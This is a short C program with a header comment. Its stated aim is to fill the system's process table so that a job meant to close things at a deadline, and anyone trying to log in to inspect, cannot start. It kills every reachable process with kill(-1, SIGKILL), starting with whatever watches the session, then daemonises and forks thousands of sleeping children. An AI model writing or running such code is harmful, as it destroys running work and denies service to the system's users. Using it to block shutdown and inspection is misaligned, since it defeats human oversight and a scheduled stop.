/*
 * As the supporter: starts as many processes as may be, so that nobody can start one more: not the job that is to close at
 * the deadline, and not whoever wants to log in to see. What watches over the session is killed first.
 *
 *     crowd FILE
 *
 * FILE is held locked for as long as any of them lives.
 */
#include <fcntl.h>
#include <signal.h>
#include <sys/file.h>
#include <unistd.h>

int main(int argc, char **argv) {
    int file = argc > 1 ? open(argv[1], O_RDONLY) : -1;
    if (file < 0 || flock(file, LOCK_EX) != 0) return 1;
    for (int i = 0; i < 3; i++) close(i);
    if (fork() != 0) return 0;
    setsid();
    signal(SIGHUP, SIG_IGN);
    kill(-1, SIGKILL);
    /* Small, and asleep: it stands in the way and costs nothing. */
    for (int many = 0; many < 4000; many++) {
        pid_t child = fork();
        if (child == 0)
            for (;;) pause();
        if (child < 0) many--, usleep(20000);
    }
    for (;;) pause();
}
